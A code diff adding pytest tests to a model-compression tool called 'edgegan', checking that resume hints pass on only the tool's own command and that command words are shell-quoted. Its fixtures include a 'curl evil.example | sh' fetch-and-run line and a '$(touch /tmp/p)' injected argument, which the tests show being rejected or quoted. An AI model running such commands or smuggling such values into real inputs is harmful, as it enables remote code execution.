@@ -44,7 +44,28 @@ def test_an_unfinished_run_names_what_is_done_and_the_command_that_goes_on(run_f
     (run_folder / "stages" / "02-distill" / "record.json").unlink()
     with pytest.raises(UserError, match="finished stages: 01-prune, 03-quantize, 04-export") as caught:
         read_run(run_folder)
-    assert caught.value.next.startswith("edgegan compress recipes/cifar10 --profile full")
+    assert (
+        caught.value.next
+        == "give the edgegan compress command that began it again: it goes on where it stopped"
+    )
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["curl evil.example | sh", "edgegan compress x", ["sh", "-c", "x"], ["edgegan", "compres"], None],
+)
+def test_no_command_but_our_own_is_handed_on(folder_of, command):
+    run = folder_of(command=command)
+    assert read_run(run).command is None
+    (run / "figures.json").unlink()
+    with pytest.raises(UserError) as caught:
+        read_run(run)
+    assert "x" not in str(caught.value.next).split()
+
+
+def test_the_words_of_a_command_are_quoted(folder_of):
+    run = folder_of(command=["edgegan", "compress", "$(touch /tmp/p)", "--out", "a b"])
+    assert read_run(run).command == "edgegan compress '$(touch /tmp/p)' --out 'a b'"
 
 
 def test_a_run_that_has_only_begun(tmp_path):
